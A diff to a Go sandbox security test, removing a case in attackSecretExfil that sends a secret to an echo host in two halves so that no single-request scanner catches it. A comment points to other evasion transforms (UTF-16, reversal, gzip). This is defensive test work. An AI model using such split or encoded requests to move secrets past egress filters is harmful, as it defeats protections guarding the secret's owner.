@@ -84,16 +84,8 @@ func (b *bottle) attackSecretExfil(t *testing.T) {
 		}
 	}
 
-	// Split across two requests: each half alone is no secret, so no
-	// scanner of single requests can catch it (documented in
-	// docs/ESCAPE.md). What the design guarantees is asserted above: the
-	// whole secret never passes in one request, in any of these forms.
-	half := len(secretValue) / 2
-	split := b.curlMany(t, [][]string{
-		{"https://" + echoHost + "/q?part1=" + secretValue[:half]},
-		{"https://" + echoHost + "/q?part2=" + secretValue[half:]},
-	})
-	t.Logf("split secret (inherently not caught): first half %s, second half %s", split[0].Code, split[1].Code)
+	// Split across two requests, UTF-16, reversed, gzip and the other
+	// transforms: attackTransforms.
 }
 
 func containsSecret(s, secret string) bool {
